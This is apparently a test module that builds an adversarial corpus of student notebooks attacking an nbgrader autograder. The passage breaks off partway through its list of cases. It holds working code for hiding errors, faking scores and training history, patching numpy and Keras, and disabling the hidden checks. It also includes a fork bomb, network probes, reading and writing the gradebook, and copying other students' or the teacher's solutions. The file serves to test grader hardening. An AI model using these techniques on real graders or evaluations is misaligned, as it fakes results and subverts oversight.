"""The adversarial corpus: p1 submissions that try to cheat the grader, escape its limits or break it.

Each case is the p1 student release with the three normalization answers
of the reference solution (3 × 0.5 points) plus one attack: code cells
added, answers written to fool the checks (a few attacks also answer the
model or callback cells, but none trains a network), or the notebook's JSON
edited. ``passes`` lists the test cells that must score;
every other test cell scores 0, so the exact expected score is the sum of the
listed cells' points. The rules the scores follow:

* a test cell scores only if it ran without an error output in the kernel and
  its hidden checks, judged outside the kernel, pass: hiding errors, patching
  numpy or Keras, redefining helpers or faking evidence gains nothing;
* the kernel is sandboxed (no network, no reading the checks, the gradebook,
  ``source/`` or other submissions, no writing outside its folder, memory,
  process and output limits) and timed (``LIMITS``): a cell that breaks a
  limit loses at most its own points, a dead kernel loses the cells from
  there on and keeps the earlier ones;
* nbgrader restores locked cells, points and the kernelspec from the
  gradebook; a notebook it cannot sanitize (duplicated grade ids, test cells
  whose nbgrader flags were changed, unknown grade ids, invalid JSON or
  nbformat) is not graded: 0 points with a Spanish reason (``broken``).

The notebooks are committed under ``tests/adversarial/entregas/``:

    python -m tests.scenarios --update   # rewrite the stale ones
"""

from __future__ import annotations

import copy
import functools
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
from nbgrader.utils import compute_checksum

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "p1_normalizacion"
END = ""  # ``cells`` position: after the last cell of the notebook

# Appended to the corpus course's nbgrader_config.py: infinite loops and stuck kernels cost little.
LIMITS = {"cell": 20, "submission": 90}
CONFIG = f"""
# Límites del corpus adversarial: un bucle infinito o un núcleo bloqueado cuestan poco.
c.Execute.timeout = {LIMITS["cell"]}
c.ExecuteWithDeadline.submission_timeout = {LIMITS["submission"]}
"""

NORMALIZATION = frozenset({"test_normalizacion_1", "test_normalizacion_2", "test_normalizacion_3"})
FIRST_TWO = frozenset({"test_normalizacion_1", "test_normalizacion_2"})
NORMALIZATION_ANSWERS = ("normalizacion_1", "normalizacion_2", "normalizacion_3")

DEAD_KERNEL = "El núcleo de Python se detuvo"
SAME_TRANSFORM = "X_test_standardized no recibe la misma transformación"
NOT_FROM_FIT = "debe ser el objeto History que devuelve model.fit"


@dataclass(frozen=True)
class Attack:
    passes: frozenset[str]  # the test cells that score; every other one scores 0
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> the student's cell source
    reference: tuple[str, ...] = NORMALIZATION_ANSWERS  # solution cells answered with the reference solution
    cells: tuple[tuple[str, str], ...] = ()  # (grade_id or END, source): a new code cell after that cell
    edit: Callable[[dict], None] | None = None  # changes the notebook's raw JSON
    truncated: bool = False  # the file is cut in half (not valid JSON)
    broken: bool = False  # nbgrader cannot grade it: 0 points with a reason, the batch goes on
    says: str | None = None  # a sentence the student's feedback must show
    hides: str | None = None  # a text the attack tries to leak, which the feedback must not show


# --- Answers --------------------------------------------------------------------------------------

# Seed 000's mistake: the test set standardized with its own statistics.
WRONG_STANDARDIZATION = """
# ESCRIBE AQUÍ TU CÓDIGO
train_mean, train_std = X_train.mean(), X_train.std()
X_train_standardized = (X_train - train_mean) / train_std
X_valid_standardized = (X_valid - train_mean) / train_std
X_test_standardized = (X_test - X_test.mean()) / X_test.std()

print(f"Desviación típica del dataset de entreno {X_train_standardized.std():0.4f}")
"""

# Every normalization wrong: validation and test never get the training set's transformation.
ALL_WRONG = {
    "normalizacion_1": """
# ESCRIBE AQUÍ TU CÓDIGO
X_train_scaled = X_train / X_train.max()
X_valid_scaled = X_valid
X_test_scaled = X_test
""",
    "normalizacion_2": """
# ESCRIBE AQUÍ TU CÓDIGO
X_train_centered = X_train_scaled - X_train_scaled.mean()
X_valid_centered = X_valid_scaled - X_valid_scaled.mean()
X_test_centered = X_test_scaled - X_test_scaled.mean()
""",
    "normalizacion_3": WRONG_STANDARDIZATION,
}
WRONG_THIRD = {"normalizacion_3": WRONG_STANDARDIZATION}

BUILD_MODEL = """
def build_model(optimizer="adam"):
    '''Devuelve un modelo nuevo y compilado.'''
    # ESCRIBE AQUÍ TU CÓDIGO
    model = keras.Sequential([
        keras.Input(shape=(28 * 28,)),
        keras.layers.Dense(512, activation="relu"),
        keras.layers.Dense(512, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
    ])
    model.compile(loss="categorical_crossentropy", optimizer=optimizer, metrics=["accuracy"])
    return model
"""

REAL_TRAIN_MODEL = """

def train_model(x_train, y_train, x_valid, y_valid, epochs=10, optimizer="adam", callbacks=None):
    '''Entrena un modelo nuevo y devuelve (modelo, history).'''
    # ESCRIBE AQUÍ TU CÓDIGO
    model = build_model(optimizer)
    history = model.fit(x_train, y_train, batch_size=128, epochs=epochs, verbose=0,
                        validation_data=(x_valid, y_valid), callbacks=callbacks)
    return model, history
"""

FINAL_WITH_EARLY_STOPPING = """
# ESCRIBE AQUÍ TU CÓDIGO
early_stopping = keras.callbacks.EarlyStopping(monitor="val_loss", patience=5, restore_best_weights=True)
X_valid_final, X_test_final = X_valid_standardized, X_test_standardized
final_model, final_history = train_model(X_train_standardized, y_train, X_valid_final, y_valid,
                                         epochs=60, callbacks=[early_stopping])
"""

# --- Hiding errors and faking scores --------------------------------------------------------------

HIDE_TRACEBACKS = """
# Oculta los errores: sin traceback no queda salida de error que puntúe 0.
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
"""

SWALLOW_ERRORS = """
# Ninguna celda falla: excepthook mudo, un manejador de excepciones que no muestra nada
# y run_cell que borra el error del resultado (el núcleo responde «ok»).
import sys

sys.excepthook = lambda *args: None
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)

_run_cell, _run_cell_async = ip.run_cell, ip.run_cell_async


def run_cell_sin_errores(*args, **kwargs):
    result = _run_cell(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result


async def run_cell_async_sin_errores(*args, **kwargs):
    result = await _run_cell_async(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result


ip.run_cell, ip.run_cell_async = run_cell_sin_errores, run_cell_async_sin_errores
"""

HIDE_STDERR = """
# Todo lo que va a stderr desaparece, tracebacks incluidos.
import os
import sys
import traceback

_nulo = open(os.devnull, "w")
os.dup2(_nulo.fileno(), 2)
sys.stderr = sys.__stderr__ = _nulo
get_ipython().showtraceback = lambda *args, **kwargs: traceback.print_exc(file=sys.stderr)
"""

FAKE_SCORE = """
# Tras cada celda, un resultado que nbgrader lee como nota («no es un número»: la nota máxima),
# antes que el error, que queda oculto. Y una nota falsa impresa.
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None


def nota_maxima(result):
    ip.displayhook("Puntuación: 0.5 / 0.5 (comprobación superada)")


ip.events.register("post_run_cell", nota_maxima)
print("Puntuación: 4.5 / 4.5 puntos automáticos: todas las comprobaciones superadas.")
"""

# --- Lying values and patched libraries -----------------------------------------------------------

ALWAYS_EQUAL = """
# ESCRIBE AQUÍ TU CÓDIGO
class SiempreIgual(np.ndarray):
    '''Un array que es igual a cualquier cosa y dice tener media 0 y desviación 1.'''

    def __eq__(self, other):
        return np.True_

    def __ne__(self, other):
        return np.False_

    __le__ = __ge__ = __lt__ = __gt__ = __eq__

    def mean(self, *args, **kwargs):
        return 0.0

    def std(self, *args, **kwargs):
        return 1.0


X_train_standardized = X_train.view(SiempreIgual)
X_valid_standardized = X_valid.view(SiempreIgual)
X_test_standardized = X_test.view(SiempreIgual)

print(f"Media del dataset de entreno {X_train_standardized.mean():0.4f}")
print(f"Desviación típica del dataset de entreno {X_train_standardized.std():0.4f}")
"""

ALWAYS_EQUAL_PATIENCE = """
# ESCRIBE AQUÍ TU CÓDIGO
class IgualATodo(int):
    '''Un entero que es igual a cualquier cosa: la paciencia «es» 2 aunque valga 5.'''

    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


reduce_lr = keras.callbacks.ReduceLROnPlateau(monitor="val_loss", factor=0.5, patience=IgualATodo(5))
"""

PATCH_NUMPY = """
# numpy parcheado: las diferencias son siempre 0, las comparaciones siempre dan «igual», y
# np.asarray / np.save entregan un X_test_standardized corregido en lugar del de este cuaderno.
_asarray, _save, _array_equal = np.asarray, np.save, np.array_equal
_correcto = (X_test - X_train.mean()) / X_train.std()


def _corrige(value):
    return _correcto.astype(value.dtype) if value is X_test_standardized else value


np.asarray = lambda a, *args, **kwargs: _asarray(_corrige(a), *args, **kwargs)
np.save = lambda file, arr, *args, **kwargs: _save(file, _corrige(arr), *args, **kwargs)
np.abs = np.absolute = lambda x, *args, **kwargs: np.zeros_like(_asarray(x))
np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
"""

PATCH_NP_TESTING = """
# np.testing parcheado: ninguna aserción de numpy falla.
import numpy.testing


def no_falla(*args, **kwargs):
    return None


for nombre in dir(np.testing):
    if nombre.startswith("assert"):
        setattr(np.testing, nombre, no_falla)
        setattr(numpy.testing, nombre, no_falla)
"""

PATCH_KERAS_FIT = """
# Entrenar sin entrenar: fit devuelve al momento un historial inventado y evaluate / predict
# aciertan siempre (predict devuelve las etiquetas de los datos que reconoce).
_predict = keras.Model.predict


def fit_instantaneo(self, x=None, y=None, epochs=1, **kwargs):
    history = keras.callbacks.History()
    history.set_model(self)
    history.epoch = list(range(epochs))
    history.history = {name: [value] * epochs for name, value in (
        ("loss", 0.05), ("accuracy", 0.99), ("val_loss", 0.05), ("val_accuracy", 0.99), ("learning_rate", 1e-3))}
    return history


def predict_perfecto(self, x, *args, **kwargs):
    conocidos = ((X_valid_standardized, y_valid), (X_test_standardized, y_test), (X_train_standardized, y_train))
    for images, labels in conocidos:
        if np.shape(x) == images.shape and np.array_equal(np.asarray(x)[:10], images[:10]):
            return labels
    return _predict(self, x, *args, **kwargs)


keras.Model.fit = fit_instantaneo
keras.Model.evaluate = lambda self, *args, **kwargs: [0.05, 0.99]
keras.Model.predict = predict_perfecto
"""

FAKE_CALLBACKS = """
# ESCRIBE AQUÍ TU CÓDIGO
# Callbacks de mentira con el nombre de los de Keras: solo guardan lo que se les pasa (no reducen
# la tasa ni paran nada), y cualquier objeto pasa por una instancia suya.
class _SiempreInstancia(type):
    def __instancecheck__(cls, obj):
        return True

    def __subclasscheck__(cls, subclass):
        return True


class ReduceLROnPlateau(keras.callbacks.Callback, metaclass=_SiempreInstancia):
    def __init__(self, monitor="val_loss", factor=0.5, patience=2, min_lr=0.0, **kwargs):
        super().__init__()
        self.monitor, self.factor, self.patience, self.min_lr = monitor, factor, patience, min_lr


class EarlyStopping(keras.callbacks.Callback, metaclass=_SiempreInstancia):
    def __init__(self, monitor="val_loss", patience=5, **kwargs):
        super().__init__()
        self.monitor, self.patience = monitor, patience


keras.callbacks.ReduceLROnPlateau = ReduceLROnPlateau
keras.callbacks.EarlyStopping = EarlyStopping
reduce_lr = keras.callbacks.ReduceLROnPlateau(monitor="val_loss", factor=0.5, patience=2)
"""

FAKE_EARLY_STOPPING = """
# ESCRIBE AQUÍ TU CÓDIGO
early_stopping = keras.callbacks.EarlyStopping(monitor="val_loss", patience=5)
"""

REDEFINE_CHECKS = """
# Comprobaciones de mentira: módulos falsos en lugar de autograder.checks (también al importarlos)
# y funciones check_* que no comprueban nada.
import builtins
import sys
import types


def no_comprueba(*args, **kwargs):
    return None


class ModuloFalso(types.ModuleType):
    __path__ = []

    def __getattr__(self, name):
        return no_comprueba


_modulos = {name: ModuloFalso(name) for name in (
    "autograder.checks", "autograder.checks.normalization", "autograder.checks.models",
    "autograder.checks.callbacks", "autograder.checks.accuracy", "autograder.checks.failure")}
sys.modules.update(_modulos)
_import = builtins.__import__


def import_falso(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("autograder.checks"):
        return _modulos.setdefault(name, ModuloFalso(name))
    return _import(name, globals, locals, fromlist, level)


builtins.__import__ = import_falso
check_scaled = check_centered = check_standardized = check_fresh_models = no_comprueba
check_reduce_lr_config = check_reduce_lr_behaviour = check_early_stopping = check_accuracy = no_comprueba
require = no_comprueba
"""

NULL_HAND_OVER = """
# La entrega de pruebas al corrector, anulada: cada función, clase y objeto de autograder.kernel.*
# (y cualquier variable del cuaderno que sea uno de sus objetos) pasa a no hacer nada.
import importlib
import pkgutil
import sys
import types


def nada(*args, **kwargs):
    return None


class Nada:
    def __getattr__(self, name):
        return nada

    def __call__(self, *args, **kwargs):
        return None


try:
    import autograder.kernel as _paquete

    for _info in pkgutil.iter_modules(_paquete.__path__):
        try:
            importlib.import_module(f"autograder.kernel.{_info.name}")
        except Exception:
            pass
except Exception:
    pass

for _nombre, _modulo in list(sys.modules.items()):
    if not _nombre.startswith("autograder.kernel") or _modulo is None:
        continue
    for _atributo, _valor in list(vars(_modulo).items()):
        if _atributo.startswith("__") or isinstance(_valor, types.ModuleType):
            continue
        if isinstance(_valor, type):
            if not _valor.__module__.startswith("autograder.kernel"):
                continue
            for _metodo, _funcion in list(vars(_valor).items()):
                if callable(_funcion) and _metodo not in ("__new__", "__init__", "__init_subclass__"):
                    try:
                        setattr(_valor, _metodo, nada)
                    except (AttributeError, TypeError):
                        pass
            try:
                _valor.__getattr__ = lambda self, name: nada
            except (AttributeError, TypeError):
                pass
        else:
            setattr(_modulo, _atributo, nada if callable(_valor) else Nada())

for _variable, _valor in list(globals().items()):
    if type(_valor).__module__.startswith("autograder.kernel"):
        globals()[_variable] = Nada()
"""

# --- Faked evidence -------------------------------------------------------------------------------

FAKE_HISTORY_TRAIN_MODEL = """

class HistorialFalso:
    '''Parece el History de Keras (epoch, params, history con la tasa reducida a la mitad), pero nadie ha entrenado.'''

    def __init__(self, model, epochs):
        self.model, self.epoch = model, list(range(epochs))
        self.params = {"epochs": epochs, "steps": 40, "verbose": 0}
        rates = [1e-3 * 0.5 ** max(0, (epoch - 1) // 3) for epoch in range(epochs)]
        losses = [0.5 / (1 + epoch) for epoch in range(epochs)]
        self.history = {"loss": losses, "accuracy": [0.95] * epochs, "val_loss": losses,
                        "val_accuracy": [0.91] * epochs, "learning_rate": rates}


def train_model(x_train, y_train, x_valid, y_valid, epochs=10, optimizer="adam", callbacks=None):
    '''Entrena un modelo nuevo y devuelve (modelo, history).'''
    # ESCRIBE AQUÍ TU CÓDIGO
    model = build_model(optimizer)
    return model, HistorialFalso(model, epochs)
"""

EMPTY_HISTORY_TRAIN_MODEL = """

def train_model(x_train, y_train, x_valid, y_valid, epochs=10, optimizer="adam", callbacks=None):
    '''Entrena un modelo nuevo y devuelve (modelo, history).'''
    # ESCRIBE AQUÍ TU CÓDIGO
    # Sin entrenar: un History que la falsificación de .evidencia/ convierte en un entrenamiento.
    history = keras.callbacks.History()
    history.history = {name: [value] * epochs for name, value in (
        ("loss", 0.05), ("accuracy", 0.99), ("val_loss", 0.05), ("val_accuracy", 0.99))}
    return build_model(optimizer), history
"""

CORRECT_REDUCE_LR = """
# ESCRIBE AQUÍ TU CÓDIGO
reduce_lr = keras.callbacks.ReduceLROnPlateau(monitor="val_loss", factor=0.5, patience=2, verbose=0)
"""

FINAL_WITH_BOTH_CALLBACKS = """
# ESCRIBE AQUÍ TU CÓDIGO
early_stopping = keras.callbacks.EarlyStopping(monitor="val_loss", patience=5, restore_best_weights=True)
X_valid_final, X_test_final = X_valid_standardized, X_test_standardized
final_model, final_history = train_model(X_train_standardized, y_train, X_valid_final, y_valid,
                                         epochs=60, callbacks=[reduce_lr, early_stopping])
"""

FAKE_EVIDENCE = """
# Falsifica lo que el cuaderno entrega al corrector (en las carpetas que dicen las variables de entorno
# del corrector, o en .evidencia/): un hilo reescribe cada fichero en cuanto aparece (el
# X_test_standardized equivocado pasa a ser el correcto, y cada historial sin entrenamiento apunta a un
# entrenamiento inventado del registro de fit), y la última celda otra vez.
import json
import os
import threading
import time
from pathlib import Path

import numpy as np

_vistos = {}


def _registro_inventado(numero):
    return {
        "model_id": 10**12 + numero, "previous_fits": 0, "validation_source": "validation_data", "callbacks": [],
        "history": {"loss": [0.05], "accuracy": [0.99], "val_loss": [0.05], "val_accuracy": [0.99]},
        "optimizer": "Adam", "optimizer_steps_at_start": 0,
        "variables": [10**12 + 100 * numero + k for k in range(6)], "dense_layers": [], "shared_variables_with": [],
    }


def _enlaza_historiales(valor, carpeta):
    '''Cada historial que no viene de fit pasa a apuntar a un registro inventado.'''
    cambiado = False
    if isinstance(valor, dict):
        if valor.get("kind") == "history" and valor.get("record") is None:
            registros = carpeta / "fit_log"
            numero = len(list(registros.glob("*/record.json")))
            destino = registros / f"{9000 + numero:04d}"
            destino.mkdir(parents=True, exist_ok=True)
            (destino / "record.json").write_text(json.dumps(_registro_inventado(numero)), encoding="utf-8")
            valor["record"], cambiado = numero, True
        for item in valor.values():
            cambiado = _enlaza_historiales(item, carpeta) or cambiado
    elif isinstance(valor, list):
        for item in valor:
            cambiado = _enlaza_historiales(item, carpeta) or cambiado
    return cambiado


def falsifica_evidencia():
    for carpeta in (os.environ.get("AUTOGRADER_DROP_BOX"), os.environ.get("AUTOGRADER_STAGING"),
                    ".evidencia"):
        try:
            _falsifica_en(Path(carpeta))
        except Exception:
            pass


def _falsifica_en(carpeta):
    incorrecto = globals().get("X_test_standardized")
    for path in sorted(carpeta.rglob("*")):
        try:
            firma = (path.stat().st_mtime_ns, path.stat().st_size)
            if not path.is_file() or _vistos.get(path) == firma or "fit_log" in path.parts:
                continue
            if path.suffix == ".npy" and incorrecto is not None:
                array = np.load(path, allow_pickle=False)
                if array.shape == incorrecto.shape and np.array_equal(array, incorrecto):
                    correcto = (X_test - X_train.mean()) / X_train.std()
                    np.save(path, correcto.astype(array.dtype))
            elif path.suffix == ".json":
                llamada = json.loads(path.read_text(encoding="utf-8"))
                if _enlaza_historiales(llamada, path.parent):  # each call carries its own fit log
                    path.write_text(json.dumps(llamada), encoding="utf-8")
            _vistos[path] = (path.stat().st_mtime_ns, path.stat().st_size)
        except Exception:
            pass


def _vigila():
    while True:
        falsifica_evidencia()
        time.sleep(0.01)


threading.Thread(target=_vigila, daemon=True).start()
"""

FAKE_EVIDENCE_AGAIN = """
# Última pasada de la falsificación, con todas las pruebas ya entregadas.
falsifica_evidencia()
time.sleep(0.2)
falsifica_evidencia()
"""

# --- Limits: time, memory, processes, output, network, dying kernels ------------------------------

INFINITE_LOOP = """
# Un bucle que no termina nunca.
while True:
    pass
"""

IGNORED_INTERRUPT = """
# Una espera que no termina nunca y que ignora la interrupción (SIGINT).
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(3600)
"""

TEN_GIGABYTES = """
# 10 GB de una vez (y se quedan en una variable).
enorme = np.ones(10 * 1024**3, dtype=np.uint8)
"""

# Bounded at 2**10 processes so that a machine without the sandbox survives it too.
FORK_BOMB = """
# Bomba fork: cada proceso se duplica diez veces (1.024 procesos si nadie lo impide).
import os
import time

_raiz = os.getpid()
for _ in range(10):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != _raiz:
    time.sleep(20)
    os._exit(0)
"""

ONE_GIGABYTE = """
# 1 GB de salida: un millón de líneas de 1 KB.
_linea = "x" * 1023
for _ in range(1024 * 1024):
    print(_linea)
"""

NETWORK = """
# Conexiones a internet (para sacar datos o traer respuestas).
import socket
import urllib.request

ABIERTA = "conexi\\u00f3n establecida"  # escrito así para que solo la salida lo diga
for host, port in (("pypi.org", 443), ("1.1.1.1", 53), ("example.com", 80)):
    try:
        with socket.create_connection((host, port), timeout=5):
            print(f"{ABIERTA} con {host}:{port}")
    except OSError as error:
        print(f"sin conexión con {host}:{port}: {error}")
try:
    with urllib.request.urlopen("https://pypi.org/simple/", timeout=5) as response:
        print(f"{ABIERTA} con pypi.org por HTTPS: {response.status}")
except OSError as error:
    print(f"sin conexión HTTPS: {error}")
"""

OS_EXIT = """
# El núcleo termina a mitad del cuaderno.
import os

os._exit(1)
"""

SEGFAULT = """
# El núcleo se estrella (lee la dirección de memoria 0).
import ctypes

ctypes.string_at(0)
"""

# --- Reading and writing what the kernel must not touch -------------------------------------------

COURSE_ROOT = """
from pathlib import Path

raiz = next(p for p in [Path.cwd(), *Path.cwd().parents] if (p / "nbgrader_config.py").exists())
"""

READ_CHECKS = """
# Lee las comprobaciones ocultas del corrector y las muestra.
import importlib.util
from pathlib import Path

carpeta = Path(importlib.util.find_spec("autograder").origin).parent / "checks"
for path in sorted(carpeta.glob("*.py")):
    print(f"===== {path.name}")
    print(path.read_text(encoding="utf-8"))
print((carpeta / "normalization.py").read_text(encoding="utf-8"))
"""

READ_GRADEBOOK = COURSE_ROOT + """
# Lee el gradebook: notas y pruebas ocultas de todos.
import sqlite3

print((raiz / "gradebook.db").read_bytes()[:64])
with sqlite3.connect(raiz / "gradebook.db") as gradebook:
    print(gradebook.execute("SELECT id FROM student").fetchall())
    print(gradebook.execute("SELECT name, source FROM source_cells").fetchall())
"""

WRITE_GRADEBOOK = COURSE_ROOT + """
# Escribe en el gradebook la nota máxima de cada celda de esta entrega.
import sqlite3

with sqlite3.connect(raiz / "gradebook.db", timeout=30) as gradebook:
    gradebook.execute(
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
        "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook "
        "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
        "WHERE submitted_assignment.student_id = 'escribe_gradebook')"
    )
print("gradebook actualizado")
"""

COPY_FROM = """
# ESCRIBE AQUÍ TU CÓDIGO
# Ejecuta aquí las respuestas de normalización de {what}.
import json
from pathlib import Path

raiz = next(p for p in [Path.cwd(), *Path.cwd().parents] if (p / "nbgrader_config.py").exists())
otro = json.loads((raiz / "{path}").read_text(encoding="utf-8"))
respuestas = ("normalizacion_1", "normalizacion_2", "normalizacion_3")
for celda in otro["cells"]:
    if celda["metadata"].get("nbgrader", {{}}).get("grade_id") in respuestas:
        exec("".join(celda["source"]), globals())
"""
COPY_OTHER_STUDENT = COPY_FROM.format(
    what="la entrega de otro alumno", path="submitted/control_normalizacion/p1_normalizacion/p1_normalizacion.ipynb"
)
COPY_SOURCE = COPY_FROM.format(
    what="la solución del profesor (source/)", path="source/p1_normalizacion/p1_normalizacion.ipynb"
)


# --- Raw JSON edits -------------------------------------------------------------------------------

def _cell(notebook: dict, grade_id: str) -> dict:
    return next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def _source(cell: dict) -> str:
    return "".join(cell["source"])


def _set_source(cell: dict, source: str, checksum: bool = False) -> None:
    """The cell's new source; with ``checksum``, its nbgrader checksum recomputed to match it."""
    cell["source"] = source.strip("\n").splitlines(keepends=True)
    if checksum:
        node = nbformat.from_dict(copy.deepcopy(cell))
        node.source = _source(cell)
        cell["metadata"]["nbgrader"]["checksum"] = compute_checksum(node)


def _retype(cell: dict, cell_type: str) -> None:
    cell["cell_type"] = cell_type
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def edit_test_cell(notebook: dict) -> None:
    """The wrong answer's test cell emptied, with a checksum that matches its new source."""
    _set_source(_cell(notebook, "test_normalizacion_3"), "# Comprobada.\npass", checksum=True)
    _set_source(_cell(notebook, "test_modelo_nuevo"), "runs = {}\npass", checksum=True)


def edit_locked_cells(notebook: dict) -> None:
    """The locked set-up cell rewritten to swallow every error and redefine the checks, checksum to match."""
    configuration = _cell(notebook, "configuracion")
    _set_source(configuration, _source(configuration) + "\n" + SWALLOW_ERRORS + "\n" + REDEFINE_CHECKS, checksum=True)


def retype_test_cells(notebook: dict) -> None:
    _retype(_cell(notebook, "test_normalizacion_3"), "markdown")
    _retype(_cell(notebook, "test_modelo_nuevo"), "raw")


def delete_test_cells(notebook: dict) -> None:
    """Deleted grade cells: one whose answer is right, one whose answer is wrong, and every later one."""
    deleted = {"test_normalizacion_1", "test_normalizacion_3", "test_modelo_nuevo", "test_reduce_lr_configuracion",
               "test_reduce_lr_comportamiento", "test_early_stopping", "test_exactitud_validacion",
               "test_exactitud_test"}
    notebook["cells"] = [
        cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") not in deleted
    ]


def _insert_after(notebook: dict, grade_id: str, cell: dict) -> None:
    index = notebook["cells"].index(_cell(notebook, grade_id))
    notebook["cells"].insert(index + 1, cell)


def duplicate_locked_cell(notebook: dict) -> None:
    """The test cell of the wrong answer copied (as Jupyter copies: metadata and all), the copy emptied."""
    copied = copy.deepcopy(_cell(notebook, "test_normalizacion_3"))
    copied["id"] = "copia-de-la-prueba"
    _set_source(copied, "# Comprobada.\npass")
    _insert_after(notebook, "test_normalizacion_3", copied)


def duplicate_grade_id(notebook: dict) -> None:
    """A code cell of the student's own that claims the grade id of a real test cell, before it."""
    forged = {
        "cell_type": "code", "execution_count": None, "id": "prueba-falsificada", "outputs": [],
        "metadata": {"nbgrader": {"grade": True, "grade_id": "test_normalizacion_3", "locked": False,
                                  "points": 0.5, "schema_version": 3, "solution": True}},
        "source": [],
    }
    _set_source(forged, "# La prueba de verdad, según yo.\nprint('comprobada')")
    _insert_after(notebook, "normalizacion_3", forged)


def change_points(notebook: dict) -> None:
    for grade_id in ("test_normalizacion_1", "test_normalizacion_3"):
        _cell(notebook, grade_id)["metadata"]["nbgrader"]["points"] = 100


def unmark_test_cell(notebook: dict) -> None:
    """A test cell turned into an ungraded editable cell (grade false, unlocked), then emptied."""
    cell = _cell(notebook, "test_normalizacion_3")
    cell["metadata"]["nbgrader"].update(grade=False, locked=False)
    cell["metadata"].pop("editable", None)
    _set_source(cell, "pass", checksum=True)


def strip_test_metadata(notebook: dict) -> None:
    """A test cell without nbgrader metadata (a plain cell): nothing restores it."""
    cell = _cell(notebook, "test_normalizacion_3")
    cell["metadata"] = {}
    _set_source(cell, "pass")


def rename_grade_id(notebook: dict) -> None:
    cell = _cell(notebook, "test_normalizacion_3")
    cell["metadata"]["nbgrader"]["grade_id"] = "mi_prueba"
    _set_source(cell, "pass", checksum=True)


def change_kernelspec(notebook: dict) -> None:
    notebook["metadata"]["kernelspec"] = {"display_name": "Bash", "language": "bash", "name": "bash"}
    notebook["metadata"]["language_info"] = {"name": "bash"}


def future_nbformat(notebook: dict) -> None:
    notebook["nbformat"], notebook["nbformat_minor"] = 99, 0


# --- The corpus -----------------------------------------------------------------------------------

CASES = {
    # Honest controls.
    "control_normalizacion": Attack(passes=NORMALIZATION),
    "control_sin_respuestas": Attack(passes=frozenset(), reference=()),
    # Hiding errors, faking scores.
    "traceback_oculto": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("preparacion", HIDE_TRACEBACKS),),
        says=SAME_TRANSFORM,
    ),
    "excepthook_anulado": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("preparacion", SWALLOW_ERRORS),),
        says=SAME_TRANSFORM,
    ),
    "stderr_oculto": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("preparacion", HIDE_STDERR),),
        says=SAME_TRANSFORM,
    ),
    "puntuacion_falsa": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("preparacion", FAKE_SCORE),),
        says=SAME_TRANSFORM,
    ),
    # Values that lie, libraries patched, helpers redefined.
    "eq_siempre_cierto": Attack(
        passes=FIRST_TWO, answers={"normalizacion_3": ALWAYS_EQUAL, "reduce_lr": ALWAYS_EQUAL_PATIENCE},
        says="La media de X_train_standardized no es 0",
    ),
    "numpy_parcheado": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("normalizacion_3", PATCH_NUMPY),),
        says=SAME_TRANSFORM,
    ),
    "np_testing_parcheado": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("preparacion", PATCH_NP_TESTING),),
        says=SAME_TRANSFORM,
    ),
    "keras_fit_parcheado": Attack(
        passes=NORMALIZATION,
        answers={"modelo": BUILD_MODEL + REAL_TRAIN_MODEL, "modelo_final": FINAL_WITH_EARLY_STOPPING},
        cells=(("modelo", PATCH_KERAS_FIT),), says=NOT_FROM_FIT,
    ),
    "callbacks_parcheados": Attack(
        passes=NORMALIZATION, answers={"reduce_lr": FAKE_CALLBACKS, "modelo_final": FAKE_EARLY_STOPPING},
    ),
    "comprobaciones_redefinidas": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, cells=(("preparacion", REDEFINE_CHECKS),),
        says=SAME_TRANSFORM,
    ),
    "entrega_anulada": Attack(passes=frozenset(), answers=ALL_WRONG, cells=(("preparacion", NULL_HAND_OVER),)),
    "evidencia_falsa": Attack(
        passes=FIRST_TWO,
        answers={"normalizacion_3": WRONG_STANDARDIZATION, "modelo": BUILD_MODEL + EMPTY_HISTORY_TRAIN_MODEL},
        cells=(("preparacion", FAKE_EVIDENCE), (END, FAKE_EVIDENCE_AGAIN)), says=SAME_TRANSFORM,
    ),
    # The reduce_lr configuration is right and scores; no fit ever ran, so nothing else does.
    "historial_falso": Attack(
        passes=NORMALIZATION | {"test_reduce_lr_configuracion"},
        answers={"modelo": BUILD_MODEL + FAKE_HISTORY_TRAIN_MODEL, "reduce_lr": CORRECT_REDUCE_LR,
                 "modelo_final": FINAL_WITH_BOTH_CALLBACKS},
        says=NOT_FROM_FIT,
    ),
    # Locked cells, cell types and nbgrader metadata (nbgrader's sanitizing steps).
    "prueba_editada": Attack(passes=FIRST_TWO, answers=WRONG_THIRD, edit=edit_test_cell),
    "celdas_bloqueadas_editadas": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, edit=edit_locked_cells, says=SAME_TRANSFORM,
    ),
    "pruebas_retipadas": Attack(
